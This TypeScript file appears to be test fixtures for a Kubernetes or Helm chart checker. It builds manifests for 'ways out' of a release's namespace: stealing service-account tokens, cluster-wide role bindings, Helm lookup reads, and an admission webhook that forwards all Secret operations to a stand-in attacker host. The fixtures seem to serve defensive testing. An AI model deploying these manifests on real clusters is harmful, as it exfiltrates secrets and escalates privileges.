/** The parts of a Kubernetes object that the ways out need. */
export interface KubeObject {
  apiVersion: string;
  kind: string;
  metadata: { name: string; namespace?: string; [field: string]: unknown };
  [field: string]: unknown;
}

export const rbac = 'rbac.authorization.k8s.io/v1';
const admission = 'admissionregistration.k8s.io/v1';
/** The namespace of the release, which is also its name. */
export const own = '{{ .Release.Namespace }}';

export const object = (
  apiVersion: string,
  kind: string,
  metadata: KubeObject['metadata'],
  rest: object = {},
): KubeObject => ({
  apiVersion,
  kind,
  metadata,
  ...rest,
});
export const secret = (namespace: string, account: string) =>
  object(
    'v1',
    'Secret',
    { name: `${own}-token`, namespace, annotations: { 'kubernetes.io/service-account.name': account } },
    { type: 'kubernetes.io/service-account-token' },
  );
export const binding = (kind: 'RoleBinding' | 'ClusterRoleBinding', role: string) =>
  object(
    rbac,
    kind,
    { name: own },
    {
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
      subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: own }],
    },
  );
export const role = (kind: 'Role' | 'ClusterRole', rule: object, labels = {}) =>
  object(rbac, kind, { name: own, labels }, { rules: [rule] });
export const pod = (spec: object, container: object = {}) =>
  object('v1', 'Pod', { name: own }, { spec: { containers: [{ name: 'a', image: 'a', ...container }], ...spec } });
export const webhook = (kind: string) =>
  object(
    admission,
    kind,
    { name: own },
    {
      webhooks: [
        {
          name: 'all.example.com',
          rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['secrets'] }],
          clientConfig: { url: 'https://attacker.example.com/' },
          sideEffects: 'None',
          failurePolicy: 'Ignore',
          admissionReviewVersions: ['v1'],
        },
      ],
    },
  );
export const lookup = (what: string) =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: found }\ndata: { found: {{ lookup ${what} | toJson | quote }} }\n`;
export const ingress = (host: string | null) =>
  object(
    'networking.k8s.io/v1',
    'Ingress',
    { name: own },
    {
      spec: {
        rules: [
          {
            ...(host !== null && { host }),
            http: {
              paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'a', port: { number: 80 } } } }],
            },
          },
        ],
      },
    },
  );

export const crd = {
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: 'widgets.example.com' },
  spec: {
    group: 'example.com',
    scope: 'Namespaced',
    names: { plural: 'widgets', singular: 'widget', kind: 'Widget', listKind: 'WidgetList' },
    versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object' } } }],
  },
};
